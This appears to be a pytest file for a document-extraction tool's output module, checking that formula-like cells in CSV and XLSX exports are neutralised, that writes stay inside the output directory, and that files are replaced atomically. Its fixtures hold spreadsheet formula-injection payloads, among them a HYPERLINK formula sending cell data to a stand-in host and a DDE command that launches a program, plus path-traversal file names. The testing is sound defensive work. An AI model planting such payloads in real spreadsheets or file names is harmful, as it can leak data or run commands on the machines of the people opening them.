"""Output safety (hostile-input issue, item 3): formula cells neutralised, atomic files, nothing outside --out."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest

from plansift.output import OutputSink
from plansift.pipeline import DocumentResult, assign_record_ids

HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def hostile_result(name: str = "../../../tmp/evil=1+1.txt") -> DocumentResult:
    """A document whose name and cells are crafted to run as formulas or to escape the output directory."""
    records = [
        {
            "record_type": "action",
            "description": text,
            "lead_organisation": text,
            "milestone": text,
            "source_text": text,
            "page": 1,
        }
        for text in HOSTILE_TEXTS
    ]
    records.append(
        {
            "record_type": "target",
            "indicator_code": "NI 15",
            "period": "2008/09",
            "value_kind": "target",
            "value": -12.5,
            "unit": "percent",
            "value_text": "-12.5",
            "source_text": "-12.5%",
            "page": 2,
        }
    )
    for rec in records:
        rec["document"] = name
    assign_record_ids("0" * 64, records)
    return DocumentResult(document={"document": name, "path": name, "status": "ok", "pages": 2}, records=records)


def test_csv_cells_that_look_like_formulas_get_a_quote(tmp_path):
    with OutputSink(tmp_path, ["csv"]) as sink:
        sink.add(hostile_result())
    with open(tmp_path / "records.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    texts = [r["description"] for r in rows if r["record_type"] == "action"]
    assert texts == ["'" + t for t in HOSTILE_TEXTS]
    actions = [r for r in rows if r["record_type"] == "action"]
    for col in ("lead_organisation", "milestone", "source_text"):
        assert [r[col] for r in actions] == ["'" + t for t in HOSTILE_TEXTS]
    target = next(r for r in rows if r["record_type"] == "target")
    assert target["value"] == "-12.5"  # numbers stay numbers
    assert target["value_text"] == "-12.5"  # a plain number in a text column is harmless and kept
    assert target["source_text"] == "-12.5%"
    with open(tmp_path / "documents.csv", encoding="utf-8", newline="") as fh:
        docs = list(csv.DictReader(fh))
    assert docs[0]["document"] == "../../../tmp/evil=1+1.txt"  # does not start with a trigger: kept


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    with OutputSink(tmp_path, ["xlsx"]) as sink:
        sink.add(hostile_result())
    wb = openpyxl.load_workbook(tmp_path / "plansift.xlsx")
    ws = wb["actions"]
    header = [c.value for c in ws[1]]
    col = header.index("description")
    cells = [row[col] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE_TEXTS
    assert all(c.data_type == "s" for c in cells)  # a string cell, never data_type 'f'
    assert all(c.quotePrefix for c in cells)  # editing the cell keeps it text
    target = wb["targets"]
    value_col = [c.value for c in target[1]].index("value")
    value = target.cell(row=2, column=value_col + 1)
    assert value.value == -12.5 and value.data_type == "n"


def test_nothing_is_written_outside_the_output_directory(tmp_path):
    out = tmp_path / "deep" / "out"
    before = {p for p in tmp_path.rglob("*")}
    with OutputSink(out) as sink:
        sink.add(hostile_result(name="../../escape.txt"))
        sink.add(hostile_result(name="/etc/passwd"))
    after = {p for p in tmp_path.rglob("*")} - before
    assert after and all(p == out or out in p.parents or p in out.parents for p in after)
    assert not Path("/tmp/evil=1+1.txt").exists()


def test_an_interrupted_run_leaves_the_previous_outputs_untouched(gold_results, tmp_path):
    with OutputSink(tmp_path) as sink:
        sink.add(gold_results[0])
    previous = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    with pytest.raises(KeyboardInterrupt), OutputSink(tmp_path) as sink:
        for result in gold_results:
            sink.add(result)
        raise KeyboardInterrupt
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == previous  # and no temporary file is left


def test_while_running_only_hidden_temporary_files_exist(gold_results, tmp_path):
    sink = OutputSink(tmp_path)
    sink.add(gold_results[0])
    names = os.listdir(tmp_path)
    assert names and all(n.startswith(".") and n.endswith((".tmp", ".tmp.wal")) for n in names)
    sink.abort()
    assert os.listdir(tmp_path) == []


def test_a_failure_while_finishing_keeps_the_previous_outputs(gold_results, tmp_path, monkeypatch):
    with OutputSink(tmp_path, ["csv", "xlsx"]) as sink:
        sink.add(gold_results[0])
    previous = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    sink = OutputSink(tmp_path, ["csv", "xlsx"])
    sink.add(gold_results[1])

    def disk_full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("openpyxl.workbook.workbook.Workbook.save", disk_full)
    with pytest.raises(OSError, match="No space"):
        sink.close()
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == previous


def test_libreoffice_keeps_the_formula_like_cells_as_text(tmp_path):
    import shutil
    import subprocess

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        pytest.skip("no LibreOffice (apt-get install libreoffice-calc-nogui)")
    with OutputSink(tmp_path / "out", ["xlsx"]) as sink:
        sink.add(hostile_result())
    cmd = [
        soffice, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
        "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3",
        "--outdir", str(tmp_path / "csv"), str(tmp_path / "out" / "plansift.xlsx"),
    ]  # fmt: skip
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=180)
    produced = sorted((tmp_path / "csv").glob("*.csv"))
    if not produced and "could not be loaded" in done.stdout + done.stderr:
        pytest.skip("LibreOffice without Calc cannot open XLSX (apt-get install libreoffice-calc-nogui)")
    with open(produced[0], encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    # evaluated, these would read 'click', '3', an error or a number; as text they read as written
    assert [r["description"].replace("\n", "\r") for r in rows] == HOSTILE_TEXTS
